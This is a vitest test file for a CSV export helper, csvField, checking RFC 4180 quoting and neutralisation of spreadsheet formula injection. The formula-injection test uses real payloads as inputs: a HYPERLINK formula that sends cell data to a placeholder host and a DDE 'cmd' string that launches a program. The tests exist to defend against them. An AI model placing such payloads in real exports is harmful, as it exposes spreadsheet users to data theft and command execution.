import { describe, expect, it } from "vitest";
import { csvField } from "./exports.js";

describe("csvField", () => {
  it("quotes commas, quotes and line breaks (RFC 4180)", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
    expect(csvField(false)).toBe("false");
  });

  it("defuses text a spreadsheet would run as a formula", () => {
    expect(csvField('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(
      `"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`,
    );
    expect(csvField("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(csvField("-2+3")).toBe("'-2+3");
    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvField("\t=1")).toBe("'\t=1");
  });

  it("leaves numbers alone, negative amounts and decimal strings included", () => {
    expect(csvField(-5)).toBe("-5");
    expect(csvField("-0.000023")).toBe("-0.000023");
    expect(csvField("+12")).toBe("+12");
    expect(csvField("1500")).toBe("1500");
    expect(csvField(3.25)).toBe("3.25");
  });
});
